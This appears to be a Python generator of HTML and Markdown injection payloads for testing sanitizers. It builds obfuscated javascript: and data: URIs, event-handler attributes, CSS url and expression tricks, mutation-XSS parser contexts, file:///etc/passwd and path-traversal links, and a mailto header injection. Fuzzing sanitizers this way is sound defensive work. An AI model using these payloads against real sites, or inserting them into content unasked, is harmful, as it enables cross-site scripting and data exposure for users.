"""Markup that wants to run, load or lead somewhere: put together from its parts, the same ones every time.

Elements, the attributes that act or load, the addresses that must not be followed, the ways to write them so that a
filter overlooks them, and the surroundings in which a parser changes its mind. No list of anybody's: only the grammar.
"""

from collections.abc import Iterator
from itertools import cycle, product

LOADING = {  # element: attributes that load or lead
    "a": ("href", "ping", "xlink:href"), "area": ("href",), "audio": ("src",), "base": ("href",), "bgsound": ("src",),
    "blockquote": ("cite",), "body": ("background",), "button": ("formaction",), "del": ("cite",), "embed": ("src",),
    "form": ("action",), "frame": ("src", "longdesc"), "html": ("manifest",), "iframe": ("src", "srcdoc"),
    "image": ("xlink:href", "href", "src"), "img": ("src", "srcset", "lowsrc", "dynsrc", "longdesc", "usemap"),
    "input": ("src", "formaction"), "ins": ("cite",), "link": ("href", "imagesrcset"), "math": ("href", "xlink:href"),
    "object": ("data", "codebase", "classid"), "param": ("value",), "q": ("cite",), "script": ("src", "href"),
    "source": ("src", "srcset"), "svg": ("href",), "table": ("background",), "td": ("background",), "track": ("src",),
    "use": ("href", "xlink:href"), "video": ("src", "poster"), "x-own": ("href", "src"),
}  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd",
    "FILE:/etc/passwd", "\\\\host\\share\\a.png", "//host/a.png", "/etc/passwd", "../../etc/passwd", "c:\\windows\\a",
    "ftp://host/a", "smb://host/a", "blob:https://host/a", "filesystem:https://host/a", "about:blank", "jar:https://h!/a",
    "view-source:https://h", "ms-msdt:/id", "search-ms:query=a", "intent://a", "tel:1", "sms:1", "asset:../../a", "mhtml:a",
    "http:javascript:alert(1)", "https:/\\host", "mailto:a@b?attach=/etc/passwd", "feed:javascript:alert(1)", "#a", "",
    "https://example.org/\u202egnp.exe", "https://exam\u200bple.org/", "mailto:a@b\nbcc: c@d", "https://a\u2066b/",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin", "onend", "onscroll",
    "onanimationstart", "ontransitionend", "onpointerenter", "onwheel", "oncopy", "ondrag", "onbeforeunload", "onhashchange",
    "onmessage", "onpageshow", "onresize", "onstart", "onfinish", "onbounce", "onunhandledrejection", "ONLOAD", "oNcLiCk",
)  # fmt: skip
ACTING = (
    "a", "audio", "b", "body", "button", "details", "div", "embed", "form", "iframe", "img", "input", "keygen", "link",
    "marquee", "math", "meter", "object", "p", "select", "span", "style", "svg", "table", "td", "textarea", "video", "x-own",
)  # fmt: skip
# How an attribute is written: name, value, and what stands around them.
WRITINGS = (
    ' {}="{}"', " {}='{}'", " {}={}", "/{}={}", "\n{}\n=\n'{}'", '\f{}="{}"', " {}=`{}`", ' {}="{}', ' x="" {}="{}"',
    ' x="><{} {}>', ' {}\0="{}"', ' {} ="&#x20;{}"',
)  # fmt: skip
STYLES = (
    "background:url({})", "background-image:url('{}')", "list-style:url({})", "width:expression(alert(1))", "behavior:url({})",
    "-moz-binding:url({})", "@import '{}'", "content:url({})", "cursor:url({}),auto", "\\62 ackground:url({})", "/**/background/**/:url({})",
)  # fmt: skip
# Where a parser changes its mind about what is text and what is markup.
AROUND = (
    "{}", "<!--{}-->", "<!--{}", "<!-- --!>{}", "<![CDATA[{}]]>", "<?x {}?>", "<!x {}>", "<noscript>{}</noscript>",
    '<noscript><p title="</noscript>{}">', "<template>{}</template>", "<textarea>{}</textarea>", "</textarea>{}",
    "<title>{}</title>", "</title>{}", "<style>{}</style>", "<style></style{}", "</style>{}", "<script>{}</script>",
    "</script>{}", "<xmp>{}</xmp>", "<plaintext>{}", "<iframe>{}</iframe>", "<noembed>{}</noembed>", "<select>{}</select>",
    "<table>{}</table>", "<table><tr>{}</table>", "<math>{}</math>", "<math><mi>{}</mi></math>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>", "<svg>{}</svg>",
    "<svg><foreignObject>{}</foreignObject></svg>", "<svg><style>{}</style></svg>", "<svg><title>{}</title></svg>",
    "<form><math><mtext></form><form><mglyph><style></math>{}", "<math><mtext><table><mglyph><style><!--</style>{}",
    "<frameset>{}</frameset>", "<a href=/><table>{}", "<b><p><b><p>{}", "<a><a>{}", "<p>{}</p>", "<li>{}", "<blockquote>{}", "<h1>{}</h1>",
    "<pre>\n{}</pre>", "<body><body>{}", "&lt;{}&gt;", "<div title='{}'>", '<img alt="{}">', "<<{}>>", "<scr{}ipt>", "\0{}",
)  # fmt: skip
MARKDOWN = (
    "[words]({})", "![words]({})", "<{}>", "[words][1]\n\n[1]: {}", "[words]( {} 'title')", "[words](<{}>)", "`{}`",
    "# {}", "> {}", "- {}", "| a |\n|---|\n| {} |", "    {}", "***{}***", "[![a]({})]({})", "\\[words]({})", "~~~\n{}\n~~~",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Yield them all, more than 7,000."""
    yield from _loading()
    yield from _acting()
    yield from _styled()
    yield from _surrounded()
    yield from _markdown()


def _loading() -> Iterator[str]:
    writings = cycle(WRITINGS)
    for element, attributes in LOADING.items():
        for attribute, address in product(attributes, ADDRESSES):
            yield f"<{element}{next(writings).format(attribute, address)}>words</{element}>"


def _acting() -> Iterator[str]:
    writings = cycle(WRITINGS)
    for element, event in product(ACTING, EVENTS):
        yield f"<{element}{next(writings).format(event, 'alert(1)')}>words</{element}>"


def _styled() -> Iterator[str]:
    writings = cycle(WRITINGS)
    for element, style, address in product(("p", "a", "td", "img", "svg"), STYLES, ADDRESSES[::3]):
        yield f"<{element}{next(writings).format('style', style.format(address))}>words</{element}>"
    for style, address in product(STYLES, ADDRESSES[::3]):
        yield f"<style>p {{{style.format(address)}}}</style><p>words</p>"


def _surrounded() -> Iterator[str]:
    inside = (
        "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>", "<a href=javascript:alert(1)>words</a>",
        "<iframe src=javascript:alert(1)>", "<img src='\\\\host\\a'>", "</p><script>alert(1)</script><p>", "words",
    )  # fmt: skip
    for one, around in product(inside, AROUND):
        yield around.replace("{}", one)
    for first, second in product(AROUND, AROUND):
        yield first.replace("{}", second.replace("{}", inside[0]))


def _markdown() -> Iterator[str]:
    for form, address in product(MARKDOWN, ADDRESSES):
        yield form.replace("{}", address)
